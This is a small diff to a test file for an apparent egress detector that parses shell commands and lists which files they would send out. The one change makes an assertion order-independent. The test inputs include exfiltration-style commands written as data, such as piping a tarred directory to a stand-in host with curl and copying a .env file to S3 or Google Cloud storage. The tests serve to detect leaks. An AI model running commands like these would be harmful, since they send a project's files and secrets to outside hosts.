@@ -207,7 +207,7 @@ describe("commands that stay local", () => {
 describe("flags and sub-command names are not files", () => {
 	it("tar's mode letters, git's and npm's sub-commands and git's messages name nothing", () => {
 		expect(egress("tar cz . | curl -d @- http://h.example/x").files).toEqual(["."]);
-		expect(egress("tar -czf out.tgz dist").files).toEqual(["out.tgz", "dist"]);
+		expect([...egress("tar -czf out.tgz dist").files].sort()).toEqual(["dist", "out.tgz"]);
 		expect(egress("git add -A && git commit -m x && git push https://h.example/r.git HEAD").files).toEqual([]);
 		expect(egress("aws s3 cp .env s3://bucket/x").files).toEqual([".env"]);
 		expect(egress("gsutil cp .env gs://bucket/x").files).toEqual([".env"]);
